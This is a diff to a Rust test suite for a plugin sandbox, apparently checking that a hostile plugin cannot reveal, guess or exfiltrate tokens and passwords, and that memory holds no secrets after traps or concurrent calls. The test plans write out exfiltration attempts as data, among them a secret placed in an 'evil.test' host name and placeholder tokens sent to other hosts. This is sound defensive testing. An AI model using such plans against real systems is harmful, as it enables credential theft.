@@ -1,10 +1,15 @@
 //! After the secrets, through every import.
 
+use std::io::Write as _;
+use std::time::Duration;
+
 use serde_json::{Value, json};
 
 use super::scene::{Cloud, PASSWORD, Scene, TOKEN, USER_DATA, shows_nothing};
 
 const TOKEN_PLACEHOLDER: &str = "t";
+
+const WITHHELD: &str = "machinist_plugin_secret_refusals_total{plugin=\"hostile\"}";
 
 fn placeholders() -> Value {
     json!({ TOKEN_PLACEHOLDER: { "key": "token" }, "d": { "user-data": true, "encodings": ["json-escape"] } })
@@ -12,21 +17,23 @@ fn placeholders() -> Value {
 
 #[tokio::test]
 async fn attack_reveal_every_secret() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     let report = scene.report(&json!({ "do": "reveal" })).await;
     for key in ["", "token", "username", "password"] {
         assert_eq!(report["secrets"][key]["refused"], "not-granted", "{key} {report}");
     }
     assert_eq!(scene.world.metric("machinist_plugin_secret_reveals_total{plugin=\"hostile\"}"), 0);
+    assert_eq!(scene.world.metric(WITHHELD), 4);
 }
 
 #[tokio::test]
 async fn attack_guess_a_secret_byte_by_byte() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     for key in ["token", "password"] {
         let report = scene.report(&json!({ "do": "guess", "key": key })).await;
         assert_eq!(report["bytes"], 0, "{report}");
     }
+    assert_eq!(scene.world.metric(WITHHELD), 2 * 256, "each guess");
     let data = scene.report(&json!({ "do": "guess" })).await;
     let guessed = data["guessed"].as_str().expect("a guess").trim_end_matches('\0');
     assert_eq!(guessed, &USER_DATA[..64], "the beginning of user data, which a driver may compare");
@@ -34,7 +41,7 @@ async fn attack_guess_a_secret_byte_by_byte() {
 
 #[tokio::test]
 async fn attack_placeholder_to_another_host() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     let url = scene.url("other.test", "/");
     let plan = json!({ "do": "fetch", "url": url, "headers": { "x-token": "{{t}}" }, "placeholders": placeholders() });
     scene.refused(&plan, "placeholder-host").await;
@@ -43,7 +50,7 @@ async fn attack_placeholder_to_another_host() {
 
 #[tokio::test]
 async fn attack_placeholder_in_tags_user_data_and_other_places() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     let url = scene.url("cloud.test", "/vms");
     for smuggled in [
         json!({ "headers": { "x-tag": "{{t}}" } }),
@@ -67,14 +74,14 @@ async fn attack_placeholder_in_tags_user_data_and_other_places() {
 
 #[tokio::test]
 async fn attack_secret_in_a_host_name() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     let plan = json!({ "do": "fetch", "url": "http://{{t}}.evil.test/", "placeholders": placeholders() });
     scene.refused(&plan, "grant-host").await;
 }
 
 #[tokio::test]
 async fn attack_placeholder_of_another_call() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     let url = scene.url("cloud.test", "/");
     let tokens = scene.report(&json!({ "do": "placeholders", "key": "token", "encodings": ["plain"] })).await;
     let stolen = tokens["tokens"][0].as_str().expect("a placeholder");
@@ -100,7 +107,7 @@ fn echo(request: &str) -> Vec<u8> {
 
 #[tokio::test]
 async fn attack_echo_of_secrets_by_the_cloud() {
-    let scene = Scene::with(Cloud::saying(echo)).await;
+    let scene = Scene::watched_with(Cloud::saying(echo)).await;
     let plan = json!({
         "do": "fetch",
         "method": "POST",
@@ -169,7 +176,7 @@ async fn attack_memory_of_another_call() {
 
 #[tokio::test]
 async fn attack_mark_for_a_host_that_gets_no_password() {
-    let scene = Scene::new().await;
+    let scene = Scene::watched().await;
     let url = scene.url("other.test", "/");
     for (mark, reason) in
         [("basic", "auth-host"), ("bearer", "auth-scheme"), ("basic; user=root", "auth-mark")]
@@ -178,4 +185,67 @@ async fn attack_mark_for_a_host_that_gets_no_password() {
         scene.refused(&plan, reason).await;
     }
     assert!(scene.cloud.seen().is_empty());
+}
+
+/// However a call ends that has sent secrets and was told them by the cloud: nothing is left of them in its memory.
+#[tokio::test]
+async fn attack_dump_after_every_end_of_a_call() {
+    let scene = Scene::watched_with(Cloud::saying(echo)).await;
+    let fetch = json!({
+        "do": "fetch",
+        "method": "POST",
+        "url": scene.url("cloud.test", "/vms"),
+        "headers": { "x-token": "{{t}}", "content-type": "application/json", "machinist-auth": "basic" },
+        "body": r#"{"vm":{"userData":"{{d}}"}}"#,
+        "placeholders": placeholders(),
+    });
+    for (end, kind) in [("trap", "trap"), ("loop", "cpu-time"), ("sleep", "deadline")] {
+        let mut plan = fetch.clone();
+        plan["then"] = json!(end);
+        scene.breaks(&plan, kind).await;
+    }
+    assert_eq!(scene.cloud.seen().iter().filter(|seen| seen.contains(TOKEN)).count(), 6, "they were sent");
+    for (plan, kind) in [
+        (json!({ "do": "leak", "what": "secret" }), "handles"),
+        (json!({ "do": "allocate" }), "memory"),
+        (json!({ "do": "recurse" }), "stack"),
+        (json!({ "do": "huge-answer", "bytes": 6_000_000 }), "copied-bytes"),
+        (json!({ "do": "reveal", "then": "trap" }), "trap"),
+        (json!({ "do": "guess", "key": "token", "then": "trap" }), "trap"),
+    ] {
+        scene.breaks(&plan, kind).await;
+    }
+}
+
+/// Instances side by side, each with a secret of its own: each request carries its own, and no memory holds any.
+#[tokio::test]
+async fn attack_cross_talk_of_calls_at_once() {
+    const CALLS: usize = 8;
+    let cloud = Cloud::serving(|mut stream, _| {
+        // Long enough for all to be on their way.
+        std::thread::park_timeout(Duration::from_millis(300));
+        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
+    });
+    let scene = Scene::watched_with(cloud).await;
+    let url = scene.url("cloud.test", "/");
+    let calls = (0..CALLS).map(|number| {
+        let (scene, url) = (&scene, &url);
+        async move {
+            let headers = json!({ "x-token": "{{t}}", "x-call": number.to_string() });
+            let plan =
+                json!({ "do": "fetch", "url": url, "headers": headers, "placeholders": placeholders() });
+            scene.call_with(&plan, &format!("{TOKEN}-of-call-{number}")).await
+        }
+    });
+    for answer in futures::future::join_all(calls).await {
+        assert!(answer.is_ok(), "{answer:?}");
+    }
+    let seen = scene.cloud.seen();
+    assert_eq!(seen.len(), CALLS);
+    for request in seen {
+        let value = |name: &str| request.lines().find_map(|line| line.strip_prefix(name)).expect("a header");
+        assert_eq!(value("x-token: "), format!("{TOKEN}-of-call-{}", value("x-call: ")));
+    }
+    let ended = "machinist_plugin_calls_total{plugin=\"hostile\",operation=\"CreateMachine\",outcome=\"ok\"";
+    assert_eq!(scene.world.metric(ended), CALLS as u64);
 }
